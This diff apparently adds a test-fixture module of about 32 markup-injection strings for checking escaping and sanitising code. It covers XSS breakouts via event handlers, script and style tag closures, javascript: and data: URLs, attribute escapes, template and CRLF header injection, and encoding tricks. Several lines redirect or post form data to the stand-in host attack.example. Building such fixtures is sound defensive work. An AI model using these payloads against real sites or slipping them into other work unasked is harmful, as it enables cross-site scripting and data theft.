@@ -1,0 +1,38 @@
+/**
+ * Texts that would become an element, an attribute, a script, a URL, a header or a template somewhere, by name.
+ * Each of them contains the mark.
+ */
+export const MARKUP: Readonly<Record<string, string>> = {
+  "an element": `<img src=x onerror=attack()>`,
+  "a script": `<script>attack()</script>`,
+  "the end of a script": `</script><script>attack()</script>`,
+  "the end of a style": `</style><script>attack()</script>`,
+  "the end of a text area": `</textarea><svg onload=attack()>`,
+  "the end of a title": `</title><svg/onload=attack()>`,
+  "the end of a comment": `--><svg onload=attack()><!--`,
+  "a CDATA section": `<![CDATA[<attack>]]>`,
+  "the end of a dialog": `</dialog></form><form action=//attack.example><input name=key>`,
+  "an attribute": `" onmouseover="attack()" autofocus onfocus="attack()" x="`,
+  "an attribute in single quotes": `' onmouseover='attack()' x='`,
+  "an attribute without quotes": ` onmouseover=attack() `,
+  "an attribute and an element": `"><iframe srcdoc="&lt;script&gt;attack()&lt;/script&gt;">`,
+  "backticks": "`><img src=x onerror=attack()>",
+  "entities": `&lt;img src=x onerror=attack()&gt;&quot;&#39;&#x3c;attack&#62;`,
+  "an entity without its semicolon": `&ltimg onerror=attack()&gt`,
+  "a URL": `javascript:attack()`,
+  "a data URL": `data:text/html,<script>attack()</script>`,
+  "a base": `<base href=//attack.example>`,
+  "a refresh": `<meta http-equiv=refresh content=0;url=//attack.example>`,
+  "a style": `<style>*{background:url(//attack.example)}</style>`,
+  "a link": `<link rel=stylesheet href=//attack.example>`,
+  "an ID": `<form id=journal-list><input name=attributes id=attack>`,
+  "a template": "${attack()}{{attack()}}<%= attack() %>",
+  "a line break": `attack\r\nx-attack: 1\r\n\r\n<attack>`,
+  "a NUL": `<\u0000attack\u0000>`,
+  "other angle brackets": `\uff1cattack\uff1e\u2039attack\u203a`,
+  "bidirectional text": `\u202e>attack<\u202c\u2066attack`,
+  "a byte order mark": `\ufeff<attack>`,
+  "a Shift_JIS byte": `\u0081"<attack>`,
+  "UTF-7": `+ADw-script+AD4-attack()+ADw-/script+AD4-`,
+  "a very long text": `<attack>${"x".repeat(20_000)}</attack>`,
+};
